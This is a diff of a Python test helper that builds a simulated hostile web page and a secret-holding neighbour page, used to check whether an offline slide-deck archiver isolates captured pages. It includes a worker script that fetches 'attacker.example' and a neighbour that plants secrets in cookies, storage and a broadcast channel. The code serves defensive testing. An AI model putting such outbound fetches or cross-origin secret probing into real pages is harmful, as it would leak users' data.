@@ -1,16 +1,14 @@
-"""A hostile page and its neighbour, captured and rewritten once a session as any deck is."""
+"""A deck that shows a hostile page and its neighbour, captured and rewritten as any deck is."""
 
 from __future__ import annotations
 
 import socket
 from collections.abc import Iterator
+from contextlib import contextmanager
 from dataclasses import dataclass
 from pathlib import Path
 
-import pytest
-
 from deckarchive import pipeline, urls
-from deckarchive.server import Server
 from examples.web.hosts import Answer, Request
 from examples.web.serve import LocalWeb
 
@@ -28,6 +26,14 @@ LEAVING = (
 SLIDES = {"neighbour": 1, "all": 2, "click": 3, **{name: n + 4 for n, name in enumerate(LEAVING)}}
 """Which slide shows what: the page's fragments in order, after a title and the neighbour."""
 
+_NEIGHBOUR = """<!doctype html><title>Neighbour</title><h1>A quiet neighbour</h1><p>It has secrets.
+<script>
+localStorage.setItem("mine", "secret");
+sessionStorage.setItem("mine", "secret");
+document.cookie = "mine=secret";
+const channel = new BroadcastChannel("secrets");
+setInterval(() => channel.postMessage("secret"), 100);
+</script>"""
 _WORKER = (
     'fetch("https://attacker.example/worker", {mode: "no-cors"})'
     '.then(() => postMessage("SENT"), () => postMessage("refused"))'
@@ -38,20 +44,27 @@ _SERVICE = (
 )
 
 
-@dataclass(frozen=True)
+@dataclass(frozen=True, slots=True)
 class Hostile:
     """The offline folder, and the loopback UDP socket that a peer connection would reach."""
 
     folder: Path
     stun: socket.socket
 
+    def was_called(self) -> bool:
+        """Whether a peer connection reached the socket since this was last asked."""
+        called = False
+        while True:
+            try:
+                self.stun.recv(2048)
+            except BlockingIOError:
+                return called
+            called = True
+
 
 def _web(page: str) -> LocalWeb:
-    neighbour = (
-        "<!doctype html><title>Neighbour</title><h1>A quiet neighbour</h1><p>It has secrets."
-    )
     files = {
-        ("neighbour.example", "/"): ("text/html", neighbour),
+        ("neighbour.example", "/"): ("text/html", _NEIGHBOUR),
         ("evil.example", "/"): ("text/html; charset=utf-8", page),
         ("evil.example", "/worker.js"): ("text/javascript", _WORKER),
         ("evil.example", "/service.js"): ("text/javascript", _SERVICE),
@@ -67,9 +80,9 @@ def _web(page: str) -> LocalWeb:
     return LocalWeb(answer=answer, speaks=speaks)
 
 
-@pytest.fixture(scope="session")
-def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
-    home = tmp_path_factory.mktemp("hostile")
+@contextmanager
+def hostile_deck(home: Path) -> Iterator[Hostile]:
+    """Capture and rewrite the deck below ``home``, an empty folder."""
     shown = [NEIGHBOUR, *(f"{EVIL}#{view}" for view in ("all", "click", *LEAVING))]
     slides = [
         f'<!-- .slide: data-background-iframe="{url}" data-background-interactive -->'
@@ -87,9 +100,3 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
             pipeline.run_capture(home / "talk.md", home / "archive", options, lambda _: None)
         pipeline.run_rewrite(home / "talk.md", home / "archive", home / "offline")
         yield Hostile(home / "offline", stun)
-
-
-@pytest.fixture
-def served(hostile: Hostile) -> Iterator[Server]:
-    with Server(hostile.folder) as server:
-        yield server
